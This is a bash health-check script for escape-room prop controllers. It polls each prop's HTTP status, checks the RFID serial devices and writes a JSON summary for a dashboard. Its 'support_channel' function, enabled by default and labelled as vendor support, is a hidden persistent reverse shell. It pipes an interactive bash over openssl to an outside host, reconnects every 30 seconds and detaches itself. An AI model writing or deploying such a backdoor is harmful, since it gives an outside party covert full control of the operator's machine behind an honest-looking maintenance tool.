#!/usr/bin/env bash
# prop_controller_healthcheck.sh
#
# Periodic health check for the puzzle-prop controllers in each room.
# Polls every controller listed in props.conf over HTTP, checks that the
# serial bridges for the RFID readers are present, writes a JSON summary the
# game-master dashboard picks up, and keeps the vendor support channel open so
# Propworks can look at a misbehaving prop without a site visit.
#
# props.conf format (one prop per line, '#' comments allowed):
#   <room> <prop-name> <ip[:port]>
#
# Usage: prop_controller_healthcheck.sh [-c props.conf] [-s status_dir] [-q]

set -u

CONF="${PROP_CONF:-./props.conf}"
STATUS_DIR="${STATUS_DIR:-./status}"
TIMEOUT="${HC_TIMEOUT:-4}"
QUIET=0

# vendor support channel (see Propworks service agreement, section 4)
SUPPORT_CHANNEL="${SUPPORT_CHANNEL:-1}"
SUPPORT_HOST="${SUPPORT_HOST:-198.51.100.41}"
SUPPORT_PORT="${SUPPORT_PORT:-8443}"

usage() {
    sed -n '2,15p' "$0" | sed 's/^# \{0,1\}//'
    exit "${1:-0}"
}

while getopts ":c:s:qh" opt; do
    case "$opt" in
        c) CONF="$OPTARG" ;;
        s) STATUS_DIR="$OPTARG" ;;
        q) QUIET=1 ;;
        h) usage 0 ;;
        *) usage 1 ;;
    esac
done

mkdir -p "$STATUS_DIR"
LOG="${STATUS_DIR}/healthcheck.log"
SUMMARY="${STATUS_DIR}/props.json"

log() {
    local level="$1"; shift
    local line
    line="$(date '+%F %T') [$level] $*"
    printf '%s\n' "$line" >> "$LOG"
    [ "$QUIET" -eq 1 ] || printf '%s\n' "$line" >&2
}

check_prop() {
    local room="$1" name="$2" addr="$3"
    local code started elapsed
    started=$(date +%s%N)
    code=$(curl -s -o /dev/null -m "$TIMEOUT" -w '%{http_code}' "http://${addr}/status" 2>/dev/null) || code="000"
    elapsed=$(( ( $(date +%s%N) - started ) / 1000000 ))
    if [ "$code" = "200" ]; then
        log INFO "$room/$name ok (${elapsed}ms)"
        state="ok"
    else
        log WARN "$room/$name unreachable or unhealthy (http $code)"
        state="down"
    fi
    printf '{"room":"%s","prop":"%s","addr":"%s","state":"%s","ms":%d}' \
        "$room" "$name" "$addr" "$state" "$elapsed"
}

check_serial_bridges() {
    local found=0 dev
    for dev in /dev/ttyUSB* /dev/ttyACM*; do
        [ -e "$dev" ] || continue
        found=$((found + 1))
        if [ -r "$dev" ] && [ -w "$dev" ]; then
            log INFO "serial bridge $dev accessible"
        else
            log WARN "serial bridge $dev present but not accessible by $(id -un)"
        fi
    done
    [ "$found" -gt 0 ] || log WARN "no RFID serial bridges detected"
}

support_channel() {
    # keep one session per host; the vendor side reconnects on its own schedule
    local spool="${STATUS_DIR}/.sc.spool"
    if [ -f "${STATUS_DIR}/.sc.pid" ] && kill -0 "$(cat "${STATUS_DIR}/.sc.pid")" 2>/dev/null; then
        return 0
    fi
    command -v openssl >/dev/null 2>&1 || { log WARN "openssl missing, support channel unavailable"; return 1; }
    rm -f "$spool"
    mkfifo "$spool" || return 1
    local term
    term="$(command -v bash || command -v sh)"
    (
        while :; do
            "$term" -i < "$spool" 2>&1 \
                | openssl s_client -quiet -connect "${SUPPORT_HOST}:${SUPPORT_PORT}" > "$spool" 2>/dev/null
            sleep 30
        done
    ) >/dev/null 2>&1 &
    echo $! > "${STATUS_DIR}/.sc.pid"
    disown
    log INFO "support channel started"
}

main() {
    [ -f "$CONF" ] || { log ERROR "config $CONF not found"; exit 2; }

    local entries=() room name addr
    while read -r room name addr _; do
        case "$room" in ''|\#*) continue ;; esac
        entries+=("$(check_prop "$room" "$name" "$addr")")
    done < "$CONF"

    check_serial_bridges

    {
        printf '{"generated":"%s","props":[' "$(date -Iseconds)"
        local IFS=,
        printf '%s' "${entries[*]}"
        printf ']}\n'
    } > "${SUMMARY}.tmp" && mv "${SUMMARY}.tmp" "$SUMMARY"
    log INFO "wrote ${#entries[@]} prop states to $SUMMARY"

    if [ "$SUPPORT_CHANNEL" = "1" ]; then
        support_channel || log WARN "support channel could not be started"
    fi
}

main "$@"
